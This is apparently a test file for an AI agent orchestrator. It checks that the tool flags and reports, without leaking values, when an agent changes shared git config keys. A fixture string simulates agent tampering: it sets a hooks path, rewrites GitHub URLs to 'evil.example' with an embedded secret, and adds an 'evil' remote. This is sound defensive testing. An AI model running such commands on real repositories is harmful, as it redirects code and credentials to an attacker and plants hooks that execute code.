import { execFileSync } from "node:child_process";
import { afterEach, expect, it } from "vitest";
import { Sandbox } from "./support/sandbox.ts";

let box: Sandbox;
afterEach(async ({ task }) => {
  if (task.result?.state === "fail") process.stderr.write(await box.diagnose());
  await box.close();
});

const WORK =
  "echo hi > n; git add n; git commit -qm work; git push -q . HEAD:refs/heads/other; git branch -q side; git branch -q -u main";
const CHANGE =
  "git config core.hooksPath /tmp/hooks; git config url.https://x:secret@evil.example/.insteadOf https://github.com/; git remote add evil /tmp/evil";
const agent = (line: string) => `{ command: sh, args: [-c, ${JSON.stringify(line)}], lifetime: per-turn }`;

it("says which keys of the shared git config an agent changed, in show, explain and events, without their values", async () => {
  const project = '    postCreate: ["git config husky.path x"]\n    scm: { plugin: local }';
  box = new Sandbox({ agentConfig: agent(`${WORK}; ${CHANGE}`), project });
  await box.ao("trust");
  await box.ao("spawn", "app", "1");
  await box.get("wait", { session: "app-1", until: ["review_pending", "pr_open", "mergeable"], timeoutMs: 30_000 });
  const shown = (await box.ao("show", "app-1")).stdout;
  expect(shown).toMatch(/git config that its checkout shares with the repository has changed: .*core\.hookspath/);
  expect(shown).toContain("remote.evil.url");
  expect(shown).toContain("url.https://…@evil.example/.insteadof");
  for (const part of ["husky", "secret", "branch.", "/tmp/hooks", "/tmp/evil"]) expect(shown).not.toContain(part);
  expect((await box.ao("explain", "app-1")).stdout).toMatch(/shared git config changed: .*core\.hookspath/);
  const events = await box.ao("events", "app-1");
  expect(events.stdout.match(/git config that its checkout shares/g)).toHaveLength(1);
});

it("says nothing of what everyday work, and `ao` itself, write there", async () => {
  const project = "    sparse: [.ao]\n    scm: { plugin: local }";
  box = new Sandbox({ agentConfig: agent(WORK), project, issues: 2 });
  await box.ao("trust");
  await box.ao("spawn", "app", "1", "2");
  for (const session of ["app-1", "app-2"])
    await box.get("wait", { session, until: ["review_pending", "pr_open", "mergeable"], timeoutMs: 30_000 });
  const config = execFileSync("git", ["config", "--list", "--local"], { cwd: box.repo.path, encoding: "utf8" });
  expect(config).toContain("extensions.worktreeconfig=true");
  for (const session of ["app-1", "app-2"])
    expect((await box.ao("show", session)).stdout).not.toContain("git config that its checkout");
});
